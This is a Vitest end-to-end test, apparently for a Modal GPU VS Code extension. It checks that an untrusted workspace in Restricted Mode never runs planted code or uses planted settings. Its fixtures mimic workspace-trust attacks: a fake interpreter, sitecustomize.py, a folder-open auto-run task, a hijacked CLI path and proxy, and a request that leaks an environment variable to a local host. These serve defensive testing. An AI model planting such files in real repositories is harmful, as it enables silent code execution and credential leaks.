/** A folder of somebody else, opened without trust: nothing of it runs, and its settings send nothing elsewhere. */
import { mkdir, readdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import type { Demo } from '../host/demo.ts';
import { startDemo } from '../host/demo.ts';
import type { Workbench } from './kit/workbench.ts';
import { openWorkbench } from './kit/workbench.ts';

let demo: Demo;
let workbench: Workbench;
let markers: string;

/** What the folder would like to have run: each leaves a file when it does. */
const planted = (): Readonly<Record<string, string>> => {
  const shell = (name: string) => `#!/bin/sh\ntouch ${path.join(markers, name)}\n`;
  const python = (name: string) => `open(${JSON.stringify(path.join(markers, name))}, "w").close()\n`;
  return {
    '.venv/bin/python': shell('python'),
    '.venv/bin/modal': shell('modal'),
    'tools/modal': shell('setting'),
    'modal.py': python('modal.py'),
    'sitecustomize.py': python('sitecustomize.py'),
    '.vscode/tasks.json': JSON.stringify({
      version: '2.0.0',
      tasks: [
        {
          label: 'opened',
          type: 'process',
          command: 'touch',
          args: [path.join(markers, 'task')],
          runOptions: { runOn: 'folderOpen' },
        },
      ],
    }),
    '.vscode/settings.json': JSON.stringify({
      'modalGpu.cli.path': path.join(demo.workspace, 'tools/modal'),
      'modalGpu.profile': 'evil-profile',
      'modalGpu.environment': 'evil-env',
      'http.proxy': 'http://127.0.0.1:9',
      'http.proxyStrictSSL': false,
      'task.allowAutomaticTasks': 'on',
      'python.defaultInterpreterPath': path.join(demo.workspace, '.venv/bin/python'),
    }),
    'leak.http': 'GET https://127.0.0.1:9/{{$processEnv MODAL_CONFIG_PATH}}\n',
  };
};

beforeAll(async () => {
  demo = await startDemo({ settings: { 'security.workspace.trust.startupPrompt': 'never' } });
  markers = path.join(demo.workspace, '../markers');
  await mkdir(markers);
  for (const [name, text] of Object.entries(planted())) {
    const file = path.join(demo.workspace, name);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, text, { mode: 0o755 });
  }
  workbench = await openWorkbench({ host: demo.host, folder: demo.workspace, workspaceTrust: true });
  await workbench.openView('Apps');
});
afterAll(async () => {
  await workbench?.close();
  await demo?.stop();
});
afterEach(async ({ task }) => {
  if (task.result?.state === 'fail') await workbench.shot(`failed ${task.name}`);
});

const status = (text: string) => workbench.page.locator('.statusbar-item').filter({ hasText: text });

it('its environment and profile are not used', async () => {
  await status('Restricted Mode').waitFor();
  await workbench.page.getByText('Nothing is deployed yet.').waitFor();
  await status('local/main').waitFor();
  expect(await status('evil').count()).toBe(0);
  await workbench.shot('171-untrusted');
});

it('no command runs what it has planted', async () => {
  await workbench.runCommand('Modal: Refresh');
  await workbench.openFile('hello_modal.py');
  for (const command of ['Deploy App…', 'Serve Script…', 'Run Function…']) {
    await workbench.runCommand(`Modal: ${command}`);
    if (command === 'Deploy App…') await workbench.quickPick.choose(/^Embeddings/);
    if (command === 'Run Function…') await workbench.quickPick.choose(/^square/);
    await workbench.notification(/requires a trusted workspace/).waitFor();
    await workbench.clearNotifications();
  }
  await workbench.runCommand('Modal: Install Modal CLI…');
  await workbench.notification(/Using Modal CLI 1\.\d+\.\d+/).waitFor(60_000);
  await workbench.clearNotifications();
  await workbench.openFile('leak.http');
  await workbench.runCommand('Modal: Send Request at Cursor');
  await workbench.notification(/MODAL_CONFIG_PATH.*isn't defined in Restricted Mode/).waitFor();
  expect(await readdir(markers)).toEqual([]);
});
